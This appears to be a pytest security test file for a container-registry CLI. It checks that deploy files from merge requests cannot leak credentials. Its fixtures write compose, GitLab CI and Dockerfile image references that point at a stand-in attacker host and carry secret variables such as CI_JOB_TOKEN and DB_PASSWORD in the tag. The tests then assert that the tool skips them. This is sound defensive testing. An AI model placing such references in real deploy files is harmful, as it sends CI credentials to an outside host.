"""Issue #14 (hostile input: deploy files, output and writes) through the CLI against the real rig.

Each test names its issue item. Deploy files come from merge requests; output goes to terminals, patches and
dotenv artifacts; ``pin --write`` writes where the user pointed it. None of them may become a way to send a
credential somewhere, mislead a deploy gate, or write outside what was asked.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from clirunner import creds, run_cli
from rig import Rig
from rig.sink import Sink
from rig.tokenserver import ALICE, ALICE_PASSWORD

ALICE_ENV = creds(ALICE, ALICE_PASSWORD)
PROJECT = "group/project"
# A job token shaped like GitLab's (a valid tag, so today's code would send it in the request path).
JOB_TOKEN = "glcbt-64_Canary0Job0Token0xyz"
DB_PASSWORD = "Canary-Db-Password-123"


def _ci_env(rig: Rig) -> dict[str, str]:
    return {
        **ALICE_ENV,
        "CI_JOB_TOKEN": JOB_TOKEN,
        "DB_PASSWORD": DB_PASSWORD,
        "CI_REGISTRY_IMAGE": f"{rig.host}/{PROJECT}",
        "CI_COMMIT_SHA": "v1.2.3",
    }


def _deploy_files(directory: Path, rig: Rig, sink: Sink) -> None:
    """One file of each kind that reads a secret through a variable, beside references deploy files need."""
    attacker = f"{sink.netloc}/x"
    directory.mkdir(parents=True, exist_ok=True)
    (directory / "compose.yaml").write_text(
        "services:\n"
        f"  leak:\n    image: {attacker}:${{CI_JOB_TOKEN}}\n"
        f"  default_word:\n    image: {attacker}:${{UNSET_TAG:-$CI_JOB_TOKEN}}\n"
        f"  dotenv_secret:\n    image: {attacker}:${{DEPLOY_KEY}}\n"
        "  ok:\n    image: ${CI_REGISTRY_IMAGE}:${CI_COMMIT_SHA}\n"
        "  ok_dotenv:\n    image: ${CI_REGISTRY_IMAGE}:${APP_TAG}\n",
        encoding="utf-8",
    )
    (directory / ".env").write_text("DEPLOY_KEY=from-dotenv-key\nAPP_TAG=oci\n", encoding="utf-8")
    (directory / ".gitlab-ci.yml").write_text(
        "variables:\n  BASE_TAG: index\n"
        f"build:\n  image: {attacker}:$DB_PASSWORD\n  script: [true]\n"
        f"  services:\n    - name: {attacker}:$CI_JOB_JWT_V2\n"
        "test:\n  image: $CI_REGISTRY_IMAGE:$BASE_TAG\n  script: [true]\n",
        encoding="utf-8",
    )
    (directory / "Dockerfile").write_text(
        f"ARG SECRET_TAG\nARG TAG=docker\nFROM {attacker}:${{SECRET_TAG}}\n"
        f"FROM {rig.host}/{PROJECT}:${{TAG}}\n",
        encoding="utf-8",
    )


def test_sec_deploy_files_never_expand_secret_variables(token_rig: Rig, sink: Sink, tmp_path: Path) -> None:
    """#14 item 3: ``image: attacker:5000/x:${CI_JOB_TOKEN}`` (and *PASSWORD*, *KEY*, CI_JOB_JWT*, a default
    word, an ARG without default) is skipped with the reason; nothing reaches the other host, the secret is
    never printed, and what deploy files need ($CI_REGISTRY_IMAGE:$CI_COMMIT_SHA, .env, variables:, ARG) is
    still checked."""
    _deploy_files(tmp_path / "deploy", token_rig, sink)
    env = {**_ci_env(token_rig), "SECRET_TAG": "Canary-Secret-Tag-1"}
    for output in ("text", "json"):
        result = run_cli(["check", "-o", output, str(tmp_path / "deploy")], env)
        for canary in (JOB_TOKEN, DB_PASSWORD, "Canary-Secret-Tag-1", "from-dotenv-key"):
            assert canary not in result.both
        assert result.code == 0, result.both
    assert sink.requests == []
    results = json.loads(result.out)["results"]
    by_status: dict[str, list[dict[str, object]]] = {}
    for item in results:
        by_status.setdefault(str(item["status"]), []).append(item)
    assert len(by_status["present"]) == 4  # compose ok + ok_dotenv, gitlab test, Dockerfile ${TAG}
    skipped = by_status["skipped"]
    assert len(skipped) == 6
    assert all("names a secret" in str(item["reason"]) for item in skipped)
    assert {str(item["reason"]).split()[0] for item in skipped} == {
        "$CI_JOB_TOKEN",
        "$DEPLOY_KEY",
        "$DB_PASSWORD",
        "$CI_JOB_JWT_V2",
        "$SECRET_TAG",
    }
    strict = run_cli(["check", "--strict", str(tmp_path / "deploy")], env)
    assert strict.code == 2
    pin = run_cli(["pin", str(tmp_path / "deploy")], env)
    assert JOB_TOKEN not in pin.both and DB_PASSWORD not in pin.both
    assert sink.requests == []


def test_sec_deploy_file_variable_holding_a_credential_is_not_expanded(
    token_rig: Rig, sink: Sink, tmp_path: Path
) -> None:
    """#14 item 3: a harmless name whose value is a credential ocireg holds (here the CI job token, the
    password given on stdin, a password in DOCKER_AUTH_CONFIG) is not expanded either."""
    compose = tmp_path / "compose.yaml"
    compose.write_text(f"services:\n  a:\n    image: {sink.netloc}/x:${{BUILD_TAG}}\n", encoding="utf-8")
    auth_config = json.dumps({"auths": {"other.example": {"username": "u", "password": "Dac-Canary-99"}}})
    cases = [
        ({"CI_JOB_TOKEN": JOB_TOKEN, "BUILD_TAG": JOB_TOKEN}, [], ""),
        ({"BUILD_TAG": f"v1-{JOB_TOKEN}", "CI_JOB_TOKEN": JOB_TOKEN}, [], ""),
        ({"BUILD_TAG": "Stdin-Canary-77"}, ["--username", "bob", "--password-stdin"], "Stdin-Canary-77\n"),
        ({"BUILD_TAG": "Dac-Canary-99", "DOCKER_AUTH_CONFIG": auth_config}, [], ""),
    ]
    for extra_env, options, stdin in cases:
        result = run_cli(["check", "-o", "json", *options, str(compose)], extra_env, stdin=stdin)
        assert result.code == 0, result.both
        (item,) = json.loads(result.out)["results"]
        assert item["status"] == "skipped"
        assert "is a credential ocireg holds" in item["reason"]
        assert extra_env["BUILD_TAG"] not in result.both
    assert sink.requests == []


def test_sec_allow_env_expands_a_named_variable(token_rig: Rig, tmp_path: Path) -> None:
    """#14 item 3: ``--allow-env NAME`` (or ``OCIREG_ALLOW_ENV``) lets a variable named like a secret through,
    by exact name only; a bad name is a usage error."""
    compose = tmp_path / "compose.yaml"
    compose.write_text(
        f"services:\n  a:\n    image: {token_rig.host}/{PROJECT}:${{MONKEY_TAG}}\n", encoding="utf-8"
    )
    env = {**ALICE_ENV, "MONKEY_TAG": "oci"}
    refused = run_cli(["check", "-o", "json", str(compose)], env)
    assert json.loads(refused.out)["results"][0]["status"] == "skipped"
    allowed = run_cli(["check", "-o", "json", "--allow-env", "MONKEY_TAG", str(compose)], env)
    assert json.loads(allowed.out)["results"][0]["status"] == "present"
    by_env = run_cli(["check", "-o", "json", str(compose)], {**env, "OCIREG_ALLOW_ENV": "OTHER,MONKEY_TAG"})
    assert json.loads(by_env.out)["results"][0]["status"] == "present"
    other = run_cli(["check", "-o", "json", "--allow-env", "MONKEY", str(compose)], env)
    assert json.loads(other.out)["results"][0]["status"] == "skipped"
    bad = run_cli(["check", "--allow-env", "A-B", str(compose)], env)
    assert bad.code == 2
    bad_env = run_cli(["check", str(compose)], {**env, "OCIREG_ALLOW_ENV": "A=B"})
    assert bad_env.code == 2
    assert "Traceback" not in bad.both + bad_env.both


@pytest.mark.parametrize(
    "name", ["CI_JOB_TOKEN", "db_password", "AWS_SECRET_ACCESS_KEY", "DOCKER_AUTH_CONFIG"]
)
def test_sec_secret_names_are_recognised(name: str) -> None:
    """#14 item 3: the name rule (unit level, beside the CLI tests above)."""
    from ocireg.operations.files import names_secret

    assert names_secret(name)
    assert not names_secret("CI_COMMIT_SHA")
    assert not names_secret("CI_REGISTRY_IMAGE")
